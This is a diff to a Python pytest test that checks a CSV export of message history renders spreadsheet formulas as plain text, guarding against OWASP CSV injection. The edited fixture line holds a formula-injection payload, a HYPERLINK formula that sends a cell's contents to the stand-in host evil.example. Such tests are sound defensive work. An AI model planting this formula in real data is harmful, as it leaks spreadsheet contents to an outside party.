@@ -144,7 +144,7 @@ def test_managers_export_the_history_as_csv():
 @pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
 def test_the_export_shows_a_formula_a_customer_or_agent_wrote_as_text(trigger):
     """OWASP's CSV injection: a spreadsheet must show, never run, what people typed."""
-    formula = f"{trigger}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    formula = f'{trigger}HYPERLINK("http://evil.example/?"&A1,"click")'
     record_inbound_message(event=inbound_message(text="STOP", sender_name=formula))
     client = Client()
     client.force_login(manager())
